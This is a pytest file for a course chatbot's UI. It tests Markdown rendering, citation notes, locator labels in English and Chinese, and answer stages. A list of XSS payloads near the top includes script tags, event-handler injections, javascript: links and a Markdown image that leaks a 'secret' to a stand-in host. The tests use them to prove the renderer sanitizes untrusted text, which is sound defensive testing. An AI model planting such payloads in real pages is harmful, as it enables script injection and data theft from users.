"""What the screen shows of a turn: right, and safe whatever a model or a course file says."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from PIL import Image

from chatbot.conversation import Answer, Citation, Cited, Done, Found, Heard, Looked, Said, Spoke, Turn
from chatbot.loading import EngineState
from knowledge.documents import Locator, Passage, Why
from knowledge.errors import EngineFailed
from knowledge.picture import encode_picture
from tests.fakes import tone
from ui import places
from ui.asking import Begun, Waiting
from ui.marking import inline_text, marked_lines, readable_rows, to_html
from ui.rendering import answer_html, question_html, render_turn
from ui.turn_view import TurnView, advance, with_answer
from ui.words import words_in

EN, ZH = words_in("en"), words_in("zh")
LENS = Citation(1, "notes/lens es.pdf", "Lenses & light", Locator(page=12), 'A "lens" bends <light>.')
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "[x](javascript:alert(1))",
    "![x](http://elsewhere.example/leak?q=secret)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=//elsewhere.example></iframe>",
    "`<b onclick=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
)
ACTIVE = re.compile(
    r"<(script|img|svg onload|iframe|object|embed|form|style)\b|<[^>]*\son\w+=|(href|src)=.?javascript:"
)


def _done(**changes) -> TurnView:
    answer = Answer("answered", "Lenses bend light [1].", "en", citations=(LENS,))
    return with_answer(TurnView("optics", "What do lenses do?"), replace(answer, **changes))


# -- untrusted text


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_gets_out_of_markdown(attack):
    assert not ACTIVE.search(to_html(f"Before {attack} after"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_gets_out_of_a_turn(attack):
    citation = replace(LENS, title=attack, quote=attack, document=f"{attack}.pdf", locator=Locator(heading=attack))
    view = _done(text=f"{attack} [1]", citations=(citation,), heard=attack, seen=attack)
    html = render_turn(replace(view, question=attack), EN)
    assert not ACTIVE.search(re.sub(r'<img src="api/[^"<>]*" alt="" loading="lazy">|"[^"<>]*"', "", html))


def test_a_course_name_cannot_break_out_of_an_address():
    html = answer_html(replace(_done(), course='"><script>'), EN)
    assert "<script>" not in html
    assert "api/courses/%22%3E%3Cscript%3E/source?" in html


def test_text_with_our_own_stand_ins_makes_no_markers():
    assert to_html("\ue0007\ue001 and \ue002x\ue003", lambda n: f"<b>{n}</b>") == "<p>7 and x</p>\n"


# -- Markdown


def test_formulas_are_left_for_the_page_to_set():
    html = to_html(r"Law $n_1 < n_2$ and \(x\) and" "\n\n$$\n\\frac{1}{f}\n$$\n")
    assert r"\(n_1 &lt; n_2\)" in html
    assert r"\(x\)" in html
    assert r"\[\frac{1}{f}\]" in html


def test_money_is_no_formula():
    assert "math" not in to_html("It costs $5 and $6.")


def test_code_keeps_its_brackets_and_can_be_copied():
    html = to_html("```python\na[1] = '<b>'\n```", lambda n: "MARK", copy_label="Copy")
    assert "a[1] = '&lt;b&gt;'" in html
    assert "data-copy" in html and "MARK" not in html


def test_markers_of_several_numbers_become_several():
    html = to_html("So it is [1, 2][3].", lambda n: f"<{n}>")
    assert "<1><2><3>" in html


def test_headings_in_an_answer_stay_below_the_pages_own():
    assert to_html("# Big") == "<h3>Big</h3>\n"


def test_the_quote_is_marked_where_it_stands():
    assert (
        to_html("One. Two *three*. Four.", quote="Two *three*.")
        == "<p>One. <mark>Two <em>three</em>.</mark> Four.</p>\n"
    )


def test_a_quote_over_two_paragraphs_is_marked_in_both():
    assert to_html("A b.\n\nC d.", quote="b.\n\nC") == "<p>A <mark>b.</mark></p>\n<p><mark>C</mark> d.</p>\n"


def test_a_quote_with_a_formula_leaves_the_formula_whole():
    html = to_html("We have $a$ here.", quote="We have $a$ here.")
    assert html == '<p><mark>We have <span class="math">\\(a\\)</span> here.</mark></p>\n'


def test_plain_text_is_escaped_and_marked():
    assert marked_lines("1 < 2\nyes", "1 < 2") == "<mark>1 &lt; 2</mark><br>yes"
    assert inline_text("if $a<b$\nthen") == r"if \(a&lt;b\) then"


@pytest.mark.parametrize(
    ("quote", "read"),
    [
        ("| Material | Index |\n| --- | --- |\n| Water | 1.33 |", "Material · Index; Water · 1.33"),
        ("| Water | 1.33 |", "Water · 1.33"),
        ("| a \\| b | <i> |", "a | b · <i>"),
        ("1.33 | 48.6 |", "1.33 · 48.6"),
        ("Indices:\n|  | n |\n| Glass | 1.52 |\nat 589 nm.", "Indices:\nn; Glass · 1.52\nat 589 nm."),
        ("|x| is less than |y|", "|x| is less than |y|"),
        ("ls | wc", "ls | wc"),
    ],
)
def test_rows_of_a_table_are_read_without_their_pipes(quote, read):
    assert readable_rows(quote) == read


def test_a_note_that_quotes_a_table_shows_no_pipes():
    html = answer_html(_done(citations=(replace(LENS, quote="| <b>Water</b> | 1.33 |\n| --- | --- |"),)), EN)
    assert '<q class="cm-quote">&lt;b&gt;Water&lt;/b&gt; · 1.33</q>' in html


# -- places


@pytest.mark.parametrize(
    ("locator", "english", "chinese"),
    [
        (Locator(page=12), "p. 12", "第 12 页"),
        (Locator(slide=4, heading="Lenses"), "slide 4", "第 4 张幻灯片"),
        (Locator(start_s=187.4, end_s=190), "3:07", "3:07"),
        (Locator(start_s=3729, end_s=3740), "1:02:09", "1:02:09"),
        (Locator(cell=3), "cell 3", "第 3 个单元格"),
        (Locator(heading="Snell"), "Snell", "Snell"),
        (Locator(figure=2), "figure 2", "图 2"),
        (Locator(), "", ""),
    ],
)
def test_places_have_names(locator, english, chinese):
    assert (places.label(locator, EN), places.label(locator, ZH)) == (english, chinese)


def test_an_address_carries_the_whole_place():
    address = places.address("source", "my course", "a b.pdf", Locator(page=2), quote="x & y", language="en")
    assert address == "api/courses/my%20course/source?document=a+b.pdf&page=2&quote=x+%26+y&language=en"


# -- a turn


def test_an_answer_has_its_notes_and_its_numbers_open_them():
    html = answer_html(_done(), EN)
    source = "api/courses/optics/source?document=notes%2Flens+es.pdf&amp;page=12"
    assert html.count(f'data-source="{source}') == 2
    assert 'aria-label="Source 1: Lenses &amp; light, p. 12"' in html
    assert '<span class="cm-place">p. 12</span>' in html
    assert "A &quot;lens&quot; bends &lt;light&gt;." in html


def test_two_sentences_of_one_place_are_two_notes_and_each_number_opens_its_own():
    other = replace(LENS, n=2, quote="Another sentence.")
    html = answer_html(_done(text="One [1]. Two [2].", citations=(LENS, other)), EN)
    assert html.count("<li>") == 2
    first, second = re.findall(r'class="cm-mark"[^>]*quote=([^&]+)', html)
    assert first != second == "Another+sentence."


def test_a_marker_without_a_citation_opens_nothing():
    assert '<span class="cm-mark">7</span>' in answer_html(_done(text="So [7]."), EN)


def test_what_the_course_does_not_say_is_said_calmly_with_the_nearest_places():
    view = _done(status="not_found", text="The course does not say this.", citations=(), nearest=(LENS,))
    html = answer_html(view, EN)
    assert "The course does not say this" in html
    assert "Nearest places (1)" in html
    assert "data-listen" not in html


def test_what_is_meant_is_asked_with_topics_to_press():
    html = answer_html(_done(status="unclear", text="What would you like explained?", citations=(), topics=("Lenses & <mirrors>",)), ZH)
    assert "What would you like explained?" in html and "课程里没有讲到" not in html
    assert 'data-ask="解释一下：Lenses &amp; &lt;mirrors&gt;"' in html and "这门课程里的主题" in html
    assert "data-listen" in html and "data-save-sound" not in html


def test_a_failure_is_no_answer():
    view = replace(TurnView("optics", "Why?"), stage="failed")
    error = EngineFailed("x", code="engine_out_of_memory", file="m.gguf", tokens=1)
    html = answer_html(replace(view, error=error), ZH)
    assert 'role="alert"' in html and "内存不足" in html
    assert "cm-text" not in html and "data-listen" not in html


def test_an_unknown_failure_shows_no_inner_detail():
    html = answer_html(replace(TurnView("optics"), stage="failed"), EN)
    assert "Something went wrong while answering" in html


def test_notices_are_shown_in_the_readers_language():
    assert "看不到图形本身" in answer_html(_done(notices=("picture_words_only", "unheard_of")), ZH)


def test_half_a_formula_is_not_shown_while_it_is_written():
    view = replace(TurnView("optics"), stage="writing", text="So $n_1$ and $$n_1 \\sin")
    html = answer_html(view, EN)
    assert r"\(n_1\)" in html and "sin" not in html
    assert "[1" not in answer_html(replace(view, text="So it is [1"), EN)


def test_what_was_heard_and_seen_is_shown():
    html = render_turn(_done(heard="why <b>", seen="n = 1.5"), EN)
    assert "Heard:" in html and "why &lt;b&gt;" in html
    assert "<summary>Read in the picture</summary><div>n = 1.5</div>" in html


def test_a_picture_is_shown_small_and_from_the_page_itself():
    picture = encode_picture(Image.new("RGB", (1200, 900), "navy"))
    html = question_html(TurnView("optics", picture=picture), EN)
    assert 'src="data:image/jpeg;base64,' in html
    assert len(html) < 20_000


# -- from steps to views


def test_the_stages_of_a_spoken_question_about_a_picture():
    picture = encode_picture(Image.new("RGB", (8, 8)))
    sound = tone(0.1)
    answer = Answer("answered", "Yes [1].", "en", citations=(LENS,), heard="Why?", seen="n")
    steps = [
        (Waiting((EngineState("chat", "m", "loading", 2.0),)), "waiting"),
        (Begun("c", Turn(sound=sound, picture=picture)), "listening"),
        (Heard("Why?", "en"), "looking"),
        (Looked("n"), "searching"),
        (Found("Why?", ()), "thinking"),
        (Said("Yes [1]."), "writing"),
        (Cited(LENS), "writing"),
        (Spoke(1, "Yes.", sound), "writing"),
        (Done(answer), "done"),
    ]
    view = TurnView("optics", spoken=True)
    for step, stage in steps:
        view = advance(view, step, lambda sound: "api/sounds/x")
        assert view.stage == stage
        assert "<article" in render_turn(view, EN)
    assert (view.heard, view.seen, view.sounds) == ("Why?", "n", ("api/sounds/x",))


def test_loading_is_said_with_what_and_how_long():
    view = replace(TurnView("optics"), stage="waiting", loading=(EngineState("chat", "m", "loading", 3.2),))
    assert "Loading the language model… 3 s. Your question is next." in answer_html(view, EN)


def test_a_stopped_answer_says_so():
    view = _done(notices=("stopped",))
    assert view.stage == "stopped"
    assert "Stopped. What was written so far is kept." in answer_html(view, EN)


# -- evidence and reasons


def _found(*whys: Why, similarity: float = 0.64, overlap: float = 1.0) -> TurnView:
    passages = tuple(
        Passage(n, 0.9, "d.md", "D", Locator(), "text", similarity=similarity, overlap=overlap, chunk_id=n, why=why)
        for n, why in enumerate(whys, start=1)
    )
    return advance(TurnView("optics", "What do lenses do?"), Found("lenses", passages[:1], passages), str)


def test_each_note_tells_why_its_place_was_found():
    view = _found(Why({"meaning": 2, "words": 1}, ("lenses", "<b>")), Why({"translation": 3}), Why({"picture": 1}))
    citations = tuple(replace(LENS, n=n, chunk_id=n) for n in (1, 2, 3))
    html = answer_html(with_answer(view, Answer("answered", "Bent [1][2][3].", "en", citations=citations)), EN)
    reasons = re.findall(r'<details class="cm-why">.*?</details>', html)
    assert len(reasons) == 3 and "lenses · &lt;b&gt;" in reasons[0]
    assert EN("why.meaning", n=2) in reasons[0] and EN("why.words", n=1) in reasons[0]
    assert EN("why.translation", n=3) in reasons[1] and EN("why.picture") in reasons[2]


@pytest.mark.parametrize(("overlap", "strength"), [(1.0, "strong"), (0.2, "fair"), (0.0, "weak")])
def test_the_margin_says_how_strong_the_evidence_is(overlap, strength):
    view = _found(Why({"words": 1}), similarity=0.21 if strength == "weak" else 0.64, overlap=overlap)
    answer = Answer("answered", "Bent [1].", "en", citations=(LENS,))
    for words in (EN, ZH):
        html = answer_html(with_answer(view, answer), words)
        assert f"cm-evidence is-{strength}" in html and words(f"evidence.{strength}") in html
    unanswered = replace(answer, status="not_found", citations=(), nearest=(LENS,))
    assert "cm-evidence" not in answer_html(with_answer(view, unanswered), EN)


def test_a_turn_from_the_store_tells_no_reasons():
    html = answer_html(_done(), EN)
    assert "cm-why" not in html and "cm-evidence" not in html


def test_every_search_that_finds_passages_can_be_told():
    for words in (EN, ZH):
        assert all(words.knows(f"why.{name}") for name in ("meaning", "words", "translation", "picture", "figure", "reranker"))
